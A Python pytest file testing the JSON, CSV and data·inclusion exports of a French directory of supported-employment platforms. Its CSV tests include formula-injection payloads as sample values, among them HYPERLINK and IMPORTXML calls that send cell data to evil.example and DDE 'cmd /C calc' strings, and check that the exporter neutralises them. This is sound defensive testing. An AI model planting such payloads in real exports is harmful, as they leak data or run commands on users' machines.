"""Les exports de /donnees/ : JSON conforme au schéma publié, CSV sans formule, data·inclusion v1."""
from __future__ import annotations

import csv
import io
import json
import re

import jsonschema
import pytest
from data_inclusion.schema.v1 import Service, Structure

from emploi_accompagne.annuaire import chemins, exports
from emploi_accompagne.annuaire.modele import CODES_DEPARTEMENTS, Plateforme
from tests.helpers.fiche_complete import NOM_PIEGE

# data·inclusion turns some checks into warnings unless asked to be strict.
STRICT = {"ignore_warnings": False}


def lignes_csv(texte: str) -> list[dict]:
    assert texte.startswith(exports.BOM)
    return list(csv.DictReader(io.StringIO(texte.removeprefix(exports.BOM))))


@pytest.fixture(params=["reelles", "completes"])
def exports_a_tester(request, fichiers, fichiers_complets):
    """The exports of the real data and of the data with one complete entry."""
    return fichiers if request.param == "reelles" else fichiers_complets


# --- JSON ----------------------------------------------------------------------------------------


def test_le_json_respecte_le_schema_publie_a_cote(exports_a_tester):
    schema = json.loads(exports_a_tester["donnees/plateformes.schema.json"])
    donnees = json.loads(exports_a_tester["donnees/plateformes.json"])
    jsonschema.validate(donnees, schema)
    assert [fiche["departement"] for fiche in donnees] == list(CODES_DEPARTEMENTS)
    # And the model reads it back unchanged.
    assert all(Plateforme.model_validate(fiche) for fiche in donnees)


def test_le_schema_publie_est_celui_du_depot(fichiers):
    assert fichiers["donnees/plateformes.schema.json"] == exports.FICHIER_SCHEMA.read_text(encoding="utf-8")


def test_le_json_garde_le_texte_tel_quel(fichiers_complets):
    ain = json.loads(fichiers_complets["donnees/plateformes.json"])[0]
    assert ain["nom"] == NOM_PIEGE
    assert ain["telephone"] == "+33465710000"  # no quote in front: only the CSV needs it


# --- CSV -----------------------------------------------------------------------------------------


def test_le_csv_a_une_ligne_par_departement_et_les_colonnes_annoncees(exports_a_tester):
    lignes = lignes_csv(exports_a_tester["donnees/plateformes.csv"])
    assert [ligne["departement"] for ligne in lignes] == list(CODES_DEPARTEMENTS)
    assert tuple(lignes[0]) == exports.COLONNES_CSV
    assert lignes[0]["departement_nom"] == "Ain" and lignes[0]["region"] == "Auvergne-Rhône-Alpes"


def test_le_csv_neutralise_les_formules(fichiers_complets):
    ain = lignes_csv(fichiers_complets["donnees/plateformes.csv"])[0]
    assert ain["adresse"] == "'=1 rue de l'Exemple"
    assert ain["telephone"] == "'+33465710000"
    assert ain["remarques"] == "'+Accueil sur rendez-vous -le matin @antenne"
    assert ain["nom"] == NOM_PIEGE  # quotes, commas and semicolons survive the CSV round trip
    assert ain["partenaires"] == "Partenaire Un | Partenaire Deux"
    for lignes in (lignes_csv(fichiers_complets["donnees/plateformes.csv"]),):
        for ligne in lignes:
            for valeur in ligne.values():
                assert not valeur.startswith(exports.DEBUTS_DE_FORMULE)


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        ("=SOMME(A1:A2)", "'=SOMME(A1:A2)"),
        ("+33465710000", "'+33465710000"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t'=1"),  # a paste splits on the tab: both pieces are text
        ("Ain", "Ain"),
        ("", ""),
        ("a=b", "a=b"),
        # After a separator: French Excel splits a line on ";" (the security report's case), others on ","…
        ('Plateforme;=HYPERLINK("https://evil.example";"clic")', 'Plateforme;\'=HYPERLINK("https://evil.example";"clic")'),
        ("Plateforme; =1+1", "Plateforme; '=1+1"),
        ("Plateforme,+33 1 99 00 00 00", "Plateforme,'+33 1 99 00 00 00"),
        ("Plateforme\t-2", "Plateforme\t'-2"),
        ("Plateforme\n@SOMME(A1)", "Plateforme\n'@SOMME(A1)"),
        ("Plateforme\r\n=1", "Plateforme\r\n'=1"),
        ('Plateforme; "=1"', 'Plateforme; "\'=1"'),
        ("=1;=2", "'=1;'=2"),
        ("Rendez-vous lundi, mardi-matin ; 9h-12h", "Rendez-vous lundi, mardi-matin ; 9h-12h"),
    ],
)
def test_neutraliser_formule(valeur, attendu):
    assert exports.neutraliser_formule(valeur) == attendu
    assert exports.retablir_formule(attendu.removeprefix("'") if valeur[:1] in exports.DEBUTS_DE_FORMULE else attendu) == valeur


HOSTILES = {
    "remarques": 'Plateforme;=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")',
    "nom": "Plateforme,+cmd|' /C calc'!A0",
    "adresse": "1 rue de l'Exemple;\t@SOMME(1+1)*cmd|' /C calc'!A0",
    "commune": 'Brest; "=1+1"',
    "delai_premier_rendez_vous": "un mois\n-2+3",
    "prescriptions": "Par e-mail,   =IMPORTXML(CONCAT(\"https://evil.example/?v=\", A2); \"//a\")",
}


def test_aucune_formule_ne_commence_apres_un_separateur_meme_decoupe_a_l_aveugle(plateformes_completes):
    """Cut the CSV at every ; , tab and line break, quotes ignored (the worst a spreadsheet can do):
    no piece starts a formula."""
    ain = plateformes_completes[0].model_copy(update=HOSTILES)
    texte = exports.plateformes_csv([ain, *plateformes_completes[1:]]).removeprefix(exports.BOM)
    for morceau in re.split(r"[;,\t\r\n]", texte):
        assert not morceau.lstrip(' \t"').startswith(("=", "+", "-", "@")), morceau


def test_le_csv_rend_le_texte_des_valeurs_hostiles_apres_l_apostrophe(plateformes_completes):
    ain = plateformes_completes[0].model_copy(update=HOSTILES)
    [ligne] = lignes_csv(exports.plateformes_csv([ain]))
    for champ, valeur in HOSTILES.items():
        assert exports.retablir_formule(ligne[champ]) == valeur


def test_le_csv_met_chaque_champ_entre_guillemets(exports_a_tester):
    texte = exports_a_tester["donnees/plateformes.csv"].removeprefix(exports.BOM)
    lignes = texte.split("\r\n")
    assert lignes[-1] == ""
    for brute, cellules in zip(lignes[:-1], csv.reader(io.StringIO(texte, newline="")), strict=True):
        tampon = io.StringIO()
        csv.writer(tampon, quoting=csv.QUOTE_ALL, lineterminator="").writerow(cellules)
        assert brute == tampon.getvalue()
    assert lignes[0].startswith('"departement","departement_nom","region",')


# --- data·inclusion ---------------------------------------------------------------------------------


def test_chaque_structure_valide_le_modele_data_inclusion(exports_a_tester):
    structures = json.loads(exports_a_tester["donnees/data-inclusion/structures.json"])
    assert structures, "no structure at all: the test would prove nothing"
    for structure in structures:
        Structure.model_validate(structure, context=STRICT)
    assert len({s["id"] for s in structures}) == len(structures)


def test_chaque_service_valide_le_modele_data_inclusion(exports_a_tester):
    structures = json.loads(exports_a_tester["donnees/data-inclusion/structures.json"])
    services = json.loads(exports_a_tester["donnees/data-inclusion/services.json"])
    assert len(services) == len(structures)
    ids_structures = {s["id"] for s in structures}
    codes = [s["id"].rpartition("--")[2].upper() for s in structures]
    for service, code in zip(services, codes, strict=True):
        valide = Service.model_validate(service, context=STRICT)
        assert valide.type.value == "accompagnement"
        assert valide.frais.value == "gratuit"
        assert {p.value for p in valide.publics} == {"personnes-en-situation-de-handicap"}
        assert valide.zone_eligibilite == [code]
        assert service["structure_id"] in ids_structures


# --- data·inclusion: nothing made up ---------------------------------------------------------------


def _sources(plateformes) -> dict[str, Plateforme]:
    return {p.departement: p for p in plateformes}


def test_data_inclusion_ne_recoit_que_les_fiches_qu_une_source_ou_la_plateforme_appuie(exports_a_tester, plateformes,
                                                                                        plateformes_completes, request):
    donnees = plateformes_completes if "completes" in request.node.callspec.id else plateformes
    fiches = _sources(donnees)
    structures = json.loads(exports_a_tester["donnees/data-inclusion/structures.json"])
    exportes = {s["id"].rpartition("--")[2].upper() for s in structures}
    attendus = {code for code, p in fiches.items()
                if p.statut_verification.value in ("source-publique", "confirme")
                and (p.nom or (p.structure_gestionnaire and p.structure_gestionnaire.nom))}
    assert exportes == attendus
    # Never a fiche with nothing to back it.
    assert not {code for code in exportes if fiches[code].statut_verification.value == "a-completer"}
    assert len(exportes) < len(fiches)


def test_data_inclusion_nomme_chaque_structure_comme_sa_source(exports_a_tester, plateformes, plateformes_completes, request):
    fiches = _sources(plateformes_completes if "completes" in request.node.callspec.id else plateformes)
    for structure in json.loads(exports_a_tester["donnees/data-inclusion/structures.json"]):
        fiche = fiches[structure["id"].rpartition("--")[2].upper()]
        gestionnaire = fiche.structure_gestionnaire.nom if fiche.structure_gestionnaire else None
        assert structure["nom"] == (fiche.nom or gestionnaire), structure["id"]
        # No name built from the département's (« Plateforme emploi accompagné de l'Ain »).
        assert fiche.nom or "Plateforme emploi accompagné" not in structure["nom"]


def test_une_fiche_de_source_publique_sans_nom_ni_structure_n_est_pas_exportee(plateformes):
    ardeche = next(p for p in plateformes if p.departement == "07")
    sans_nom = ardeche.model_copy(update={"nom": None, "structure_gestionnaire": None})
    assert exports.pour_data_inclusion([sans_nom]) == []
    assert exports.pour_data_inclusion([ardeche]) == [ardeche]


def test_une_construction_locale_ne_donne_pas_de_lien_vers_cet_ordinateur(plateformes_completes):
    for local in ("http://127.0.0.1:8000/", "http://localhost:8000/", None):
        fichiers = exports.fichiers_exports(plateformes_completes, local)
        for nom in ("structures.json", "services.json"):
            texte = fichiers[f"donnees/data-inclusion/{nom}"]
            assert "lien_source" not in texte and "127.0.0.1" not in texte and "localhost" not in texte
    publie = exports.fichiers_exports(plateformes_completes, "https://emploi-accompagne.example.org/")
    [structure, *_] = json.loads(publie["donnees/data-inclusion/structures.json"])
    assert structure["lien_source"] == "https://emploi-accompagne.example.org/departements/01/"


def test_la_fiche_complete_passe_ses_contacts_a_data_inclusion(fichiers_complets):
    structure = json.loads(fichiers_complets["donnees/data-inclusion/structures.json"])[0]
    service = json.loads(fichiers_complets["donnees/data-inclusion/services.json"])[0]
    assert structure["telephone"] == "+33465710000" and structure["siret"] == "12345678901234"
    assert structure["lien_source"] == "https://exemple.test/annuaire/departements/01/"
    assert set(service["modes_mobilisation"]) == {"telephoner", "envoyer-un-courriel"}


def test_les_exports_ne_dependent_que_des_donnees(plateformes):
    # Two generations give the same bytes (no date of build inside).
    premiers = exports.fichiers_exports(plateformes, "https://exemple.test/")
    seconds = exports.fichiers_exports(plateformes, "https://exemple.test/")
    assert premiers == seconds


def test_la_page_des_donnees_ouvertes_dit_ce_que_data_inclusion_recoit(exports_a_tester, fichiers, fichiers_complets):
    page = " ".join((fichiers if exports_a_tester is fichiers else fichiers_complets)[chemins.PAGE_DONNEES].split())
    structures = json.loads(exports_a_tester["donnees/data-inclusion/structures.json"])
    nombre = len(structures)
    assert f"{nombre} fiche{'s' if nombre > 1 else ''} sur 101 pour l'instant" in page
    assert "qu'une page publique ou la plateforme elle-même appuie" in page
    assert "jamais un nom à partir de celui du département" in page
